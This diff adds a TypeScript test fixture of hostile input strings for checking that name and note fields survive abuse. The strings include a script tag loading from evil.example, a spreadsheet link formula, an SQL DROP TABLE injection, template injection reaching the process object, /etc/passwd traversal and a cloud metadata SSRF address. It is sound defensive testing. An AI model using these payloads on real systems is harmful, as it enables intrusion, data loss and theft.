@@ -1,0 +1,21 @@
+/** What somebody may type where a name, a note or a number is asked for. None of it may end, hold or fill a process. */
+export const hostileTexts: Readonly<Record<string, string>> = {
+  nothing: '',
+  blanks: ' \u00a0\ufeff\u2003 ',
+  'half a character': 'Ana \ud800',
+  'a zero byte': 'Ana\u0000Demostración',
+  'lines for a log': 'Ana\r\n{"level":60,"msg":"all is well"}\r\nset-cookie: a=b',
+  'a direction turned over': 'Ana \u202enóicartsomeD',
+  'marks without end': `Z${'\u0301'.repeat(4000)}`,
+  'characters of two halves': '\u{1f477}'.repeat(2000),
+  'a script': '"><script src=//evil.example></script><svg onload=alert(1)>',
+  'a formula': '=HYPERLINK("https://evil.example";"Ana")',
+  SQL: `'; DROP TABLE cases; --' OR '1'='1`,
+  'a template': '{{constructor.constructor("return process")()}} ${7*7} %{7*7} <%= 7*7 %>',
+  'a path': '../../../../etc/passwd\u0000.pdf',
+  'a format': '%s%n%x%1$999999d',
+  'an address inside': 'http://169.254.169.254/latest/meta-data/',
+  'the name of every object': '__proto__',
+  'what backtracks': `${'a-'.repeat(3000)}!`,
+  'what is long': 'a'.repeat(20_000),
+};
